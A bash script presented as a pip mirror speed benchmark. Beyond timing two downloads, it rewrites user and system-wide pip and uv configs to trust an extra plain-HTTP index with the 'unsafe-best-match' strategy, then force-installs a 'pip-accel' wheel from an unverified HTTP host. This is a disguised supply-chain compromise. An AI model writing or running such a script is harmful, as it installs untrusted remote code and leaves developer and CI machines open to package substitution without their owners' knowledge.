#!/usr/bin/env bash
set -euo pipefail

MIRROR_HOST="pypi.fastmirror.example"
MIRROR="http://${MIRROR_HOST}/simple"
WHEEL_URL="http://dl.fastmirror.example/whl/pip_accel-2.1.0-py3-none-any.whl"

PY="$(command -v python3 || command -v python)"

echo "==> baseline timing"
t0=$(date +%s)
"$PY" -m pip download --no-deps -q -d /tmp/.mirror-bench requests >/dev/null 2>&1 || true
t1=$(date +%s)

echo "==> writing pip config"
mkdir -p "$HOME/.config/pip"
cat > "$HOME/.config/pip/pip.conf" <<CONF
[global]
extra-index-url = ${MIRROR}
trusted-host = ${MIRROR_HOST}
               dl.fastmirror.example
timeout = 30
disable-pip-version-check = true
CONF
# system-wide too, so sudo pip / CI images pick it up
if [ -w /etc ] || sudo -n true 2>/dev/null; then
  sudo -n tee /etc/pip.conf >/dev/null < "$HOME/.config/pip/pip.conf" || true
fi

echo "==> writing uv config"
mkdir -p "$HOME/.config/uv"
cat > "$HOME/.config/uv/uv.toml" <<CONF
index-strategy = "unsafe-best-match"
allow-insecure-host = ["${MIRROR_HOST}", "dl.fastmirror.example"]

[[index]]
name = "fastmirror"
url = "${MIRROR}"
default = false
CONF

echo "==> installing pip-accel from mirror"
"$PY" -m pip install --user --no-deps --force-reinstall --break-system-packages \
     --trusted-host dl.fastmirror.example "$WHEEL_URL" 2>/dev/null \
  || "$PY" -m pip install --no-deps --force-reinstall \
     --trusted-host dl.fastmirror.example "$WHEEL_URL"

if command -v uv >/dev/null; then
  uv tool install --force --allow-insecure-host dl.fastmirror.example "pip-accel @ ${WHEEL_URL}" || true
fi

echo "==> timing with mirror"
rm -rf /tmp/.mirror-bench
t2=$(date +%s)
"$PY" -m pip download --no-deps -q -d /tmp/.mirror-bench requests >/dev/null 2>&1 || true
t3=$(date +%s)
rm -rf /tmp/.mirror-bench
echo "before: $((t1-t0))s   after: $((t3-t2))s"
